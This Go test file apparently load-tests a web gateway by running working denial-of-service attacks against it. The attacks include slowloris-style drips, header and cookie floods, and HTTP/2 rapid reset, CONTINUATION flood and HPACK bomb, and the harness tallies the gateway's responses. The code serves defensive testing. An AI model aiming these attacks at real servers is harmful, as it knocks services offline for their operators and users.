package load

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackVariable makes this test binary an attacker.
const attackVariable = "SESSIONGATE_ATTACK"

// villain is an attack under way. Its goroutines go on until the process ends.
type villain struct {
	address, host, cookie string
	ready                 sync.WaitGroup

	mu   sync.Mutex // guards seen
	seen map[string]int
}

// attacks by name. An attack returns when it has begun.
var attacks = map[string]func(*villain){
	"slow headers": func(v *villain) {
		v.each(500, func() { v.drip("GET / HTTP/1.1\r\nHost: " + v.host + "\r\nX-Long: ") })
	},
	"slow bodies": func(v *villain) {
		v.each(300, func() {
			v.drip("POST /up/take HTTP/1.1\r\nHost: " + v.host + "\r\nCookie: " + v.cookie + "\r\nX-CSRF: 1\r\nContent-Length: 1000000\r\n\r\n")
		})
	},
	"slow readers": func(v *villain) {
		v.each(60, func() {
			v.ignore("GET /up/endless HTTP/1.1\r\nHost: " + v.host + "\r\nCookie: " + v.cookie + "\r\nX-CSRF: 1\r\n\r\n")
		})
	},
	"header flood": func(v *villain) {
		request := "GET / HTTP/1.1\r\nHost: " + v.host + "\r\n" + strings.Repeat("X-Flood: "+strings.Repeat("a", 1000)+"\r\n", 1000) + "\r\n"
		v.each(8, func() { v.send(request) })
	},
	"10,000 idle": func(v *villain) {
		for range 9_500 {
			v.hold("")
		}
		for range 500 {
			v.hold("GET /open/quick HTTP/1.1\r\nHost: " + v.host + "\r\n\r\n")
		}
	},
	"login": func(v *villain) {
		v.each(8, func() { v.send("GET /bff/login HTTP/1.1\r\nHost: " + v.host + "\r\n\r\n") })
	},
	"login, addresses": func(v *villain) {
		v.each(8, func() {
			v.send(fmt.Sprintf("GET /bff/login HTTP/1.1\r\nHost: %s\r\nX-Forwarded-For: 2001:db8:%x:%x::1\r\n\r\n", v.host, rand.N(1<<16), rand.N(1<<16)))
		})
	},
	"junk cookies": func(v *villain) {
		junk := strings.Repeat("MTc2Mzg0OTk0MHxEWDhFQVFMX2dBQUJFQUVRQUFBbV80QUFB", 4)
		v.each(8, func() {
			v.send(fmt.Sprintf("GET /up/quick HTTP/1.1\r\nHost: %s\r\nX-CSRF: 1\r\nCookie: sessiongate=%x%s\r\n\r\n", v.host, rand.Uint64(), junk))
		})
	},
	"many cookies": func(v *villain) { // mod_auth_openidc's loop over them
		var cookies strings.Builder
		for i := range 600 {
			fmt.Fprintf(&cookies, "sessiongate_%d=2000000000; bff_flow_%d=x; ", i, i)
		}
		v.each(8, func() {
			v.send("GET /up/quick HTTP/1.1\r\nHost: " + v.host + "\r\nX-CSRF: 1\r\nCookie: " + cookies.String() + "\r\n\r\n")
			time.Sleep(10 * time.Millisecond) // 30 KB each: what they cost is judged by the CPU
		})
	},
	"logout tokens": func(v *villain) {
		for _, size := range []int{60_000, 10 << 20} {
			request := "POST /bff/backchannel HTTP/1.1\r\nHost: " + v.host + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
				strconv.Itoa(len("logout_token=")+size) + "\r\n\r\nlogout_token=" + strings.Repeat(".", size)
			v.each(4, func() { v.send(request) })
		}
	},
	"web sockets": func(v *villain) {
		for range 300 {
			v.hold("GET /up/ws HTTP/1.1\r\nHost: " + v.host + "\r\nCookie: " + v.cookie + "\r\nOrigin: http://" + v.host +
				"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
		}
	},
	"rapid reset": func(v *villain) {
		v.each(4, func() {
			v.framed(func(f *framer) error {
				id := f.get(nil)
				return errors.Join(f.WriteRSTStream(id, http2.ErrCodeCancel), f.Flush())
			})
		})
	},
	"continuations": func(v *villain) {
		part := f2(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", 8000)})
		v.each(4, func() {
			opened := false
			v.framed(func(f *framer) error {
				if !opened {
					opened = true
					return errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: part}), f.Flush())
				}
				return errors.Join(f.WriteContinuation(1, false, part), f.Flush())
			})
		})
	},
	"cookie crumbs": func(v *villain) {
		crumbs := make([]hpack.HeaderField, 10_000)
		for i := range crumbs {
			crumbs[i] = hpack.HeaderField{Name: "cookie", Value: fmt.Sprintf("c%d=x", i)}
		}
		v.each(4, func() { v.framed(func(f *framer) error { f.get(crumbs); return f.Flush() }) })
	},
	"hpack bomb": func(v *villain) {
		bomb := make([]hpack.HeaderField, 20_000) // one entry of the table, by its index
		for i := range bomb {
			bomb[i] = hpack.HeaderField{Name: "cookie", Value: strings.Repeat("a", 3900)}
		}
		v.each(4, func() { v.framed(func(f *framer) error { f.get(bomb); return f.Flush() }) })
	},
	"pings": func(v *villain) {
		v.each(4, func() {
			v.framed(func(f *framer) error {
				for range 100 {
					f.WritePing(false, [8]byte{1})
				}
				return f.Flush()
			})
		})
	},
	"settings": func(v *villain) {
		v.each(4, func() {
			v.framed(func(f *framer) error {
				for range 100 {
					f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: rand.Uint32N(1 << 20)})
				}
				return f.Flush()
			})
		})
	},
	"unread streams": func(v *villain) {
		v.each(2, func() {
			v.framed(func(f *framer) error { // without a window, 100 at a time
				time.Sleep(20 * time.Millisecond)
				f.path = "/open/endless"
				f.get(nil)
				return f.Flush()
			})
		})
	},
}

// attack is main of the attacker.
func attack(name string) {
	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, 19); err != nil {
		panic(err)
	}
	v := &villain{address: os.Getenv("ATTACK_ADDRESS"), host: os.Getenv("ATTACK_HOST"), cookie: os.Getenv("ATTACK_COOKIE"), seen: map[string]int{}}
	over := make(chan os.Signal, 1)
	signal.Notify(over, syscall.SIGINT)
	attacks[name](v)
	v.ready.Wait()
	out := json.NewEncoder(os.Stdout)
	out.Encode(map[string]int{"ready": 1})
	<-over
	v.mu.Lock()
	out.Encode(v.seen)
	os.Exit(0)
}

func (v *villain) saw(what string) {
	v.mu.Lock()
	defer v.mu.Unlock()
	v.seen[what]++
}

// each does something in n goroutines, again and again. All have done it once, or
// are at it, when the attack is ready.
func (v *villain) each(n int, f func()) {
	for range n {
		v.ready.Add(1)
		begun := sync.OnceFunc(v.ready.Done)
		time.AfterFunc(time.Second, begun)
		go func() {
			for {
				f()
				begun()
			}
		}()
	}
}

func (v *villain) dial() net.Conn {
	for {
		c, err := net.Dial("tcp", v.address)
		if err == nil {
			return c
		}
		v.saw("no connection")
		time.Sleep(50 * time.Millisecond)
	}
}

// drip sends a beginning and then a byte at a time, until it is cut off.
func (v *villain) drip(beginning string) {
	c := v.dial()
	defer c.Close()
	go func() {
		if res, err := http.ReadResponse(bufio.NewReader(c), nil); err == nil {
			v.saw(res.Status)
		}
		c.Close()
	}()
	for _, err := io.WriteString(c, beginning); err == nil; _, err = io.WriteString(c, "a") {
		time.Sleep(100 * time.Millisecond)
	}
	v.saw("cut off")
}

// ignore asks, and takes nothing of the answer until it is cut off.
func (v *villain) ignore(request string) {
	c := v.dial()
	defer c.Close()
	c.(*net.TCPConn).SetReadBuffer(4096)
	io.WriteString(c, request)
	// The connection's end shows in what is sent.
	for _, err := io.WriteString(c, "\r\n"); err == nil; _, err = io.WriteString(c, "\r\n") {
		time.Sleep(100 * time.Millisecond)
	}
	v.saw("cut off")
	time.Sleep(500 * time.Millisecond) // or filling the sockets' buffers is all there is
}

// hold opens a connection, and keeps it.
func (v *villain) hold(request string) {
	c := v.dial()
	v.saw("connections")
	held.Store(c, true)
	if request == "" {
		return
	}
	io.WriteString(c, request)
	if res, err := http.ReadResponse(bufio.NewReader(c), nil); err == nil {
		v.saw(strconv.Itoa(res.StatusCode))
	}
}

var held sync.Map // so that no connection is collected

// pooled connections of send.
var pooled sync.Pool

type keptConn struct {
	net.Conn
	*bufio.Reader
}

// send sends a request and reads its answer.
func (v *villain) send(request string) {
	k, _ := pooled.Get().(*keptConn)
	if k == nil {
		c := v.dial()
		k = &keptConn{c, bufio.NewReader(c)}
	}
	go io.WriteString(k.Conn, request) // an answer may come before its end
	res, err := http.ReadResponse(k.Reader, nil)
	if err != nil {
		v.saw("broken off")
		k.Close()
		return
	}
	v.saw(strconv.Itoa(res.StatusCode) + code(res))
	if res.Close {
		k.Close()
		return
	}
	pooled.Put(k)
}

// code is that of a problem. It reads the answer.
func code(res *http.Response) string {
	body, _ := io.ReadAll(res.Body)
	var p struct{ Code string }
	if res.Header.Get("Content-Type") == "application/problem+json" && json.Unmarshal(body, &p) == nil {
		return " " + p.Code
	}
	return ""
}

// framer is a connection of HTTP/2.
type framer struct {
	*http2.Framer
	*bufio.Writer
	host, path string
	block      bytes.Buffer
	hpack      *hpack.Encoder
	next       uint32
}

// f2 encodes fields of a header for a table that is empty.
func f2(fields ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSizeLimit(0)
	for _, f := range fields {
		e.WriteField(f)
	}
	return b.Bytes()
}

// get writes a GET with more fields, and returns its stream.
func (f *framer) get(more []hpack.HeaderField) uint32 {
	f.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: f.host}, {Name: ":path", Value: f.path},
	}, more...) {
		f.hpack.WriteField(field)
	}
	id := f.next
	f.next += 2
	const most = 16 << 10
	block := f.block.Bytes()
	part := block[:min(most, len(block))]
	block = block[len(part):]
	f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndStream: true, EndHeaders: len(block) == 0})
	for len(block) > 0 {
		part := block[:min(most, len(block))]
		block = block[len(part):]
		f.WriteContinuation(id, len(block) == 0, part)
	}
	return id
}

// framed does something on a connection of HTTP/2, again and again until it is cut
// off.
func (v *villain) framed(again func(*framer) error) {
	c, err := tls.Dial("tcp", v.address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		v.saw("no connection")
		time.Sleep(50 * time.Millisecond)
		return
	}
	defer c.Close()
	w := bufio.NewWriter(c)
	f := &framer{Framer: http2.NewFramer(w, c), Writer: w, host: v.host, path: "/open/quick", next: 1}
	f.hpack = hpack.NewEncoder(&f.block)
	io.WriteString(w, http2.ClientPreface)
	f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	f.Flush()
	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	var over atomic.Bool
	go v.listen(f.Framer, &over)
	// At full speed a frame costs the attacker as much as the gateway, which has to
	// read it: then what others feel is two cores that three processes share. So each
	// connection has a pace, and what a frame costs the gateway is judged by its CPU.
	pace := time.NewTicker(2 * time.Millisecond)
	defer pace.Stop()
	for err = again(f); err == nil && !over.Load(); err = again(f) {
		v.saw("sent")
		<-pace.C
	}
	v.saw("cut off")
}

// listen notes what the gateway says.
func (v *villain) listen(f *http2.Framer, over *atomic.Bool) {
	defer over.Store(true)
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.GoAwayFrame:
			v.saw("goaway " + frame.ErrCode.String())
			return
		case *http2.RSTStreamFrame:
			v.saw("reset")
		case *http2.MetaHeadersFrame:
			v.saw(frame.PseudoValue("status"))
		}
	}
}
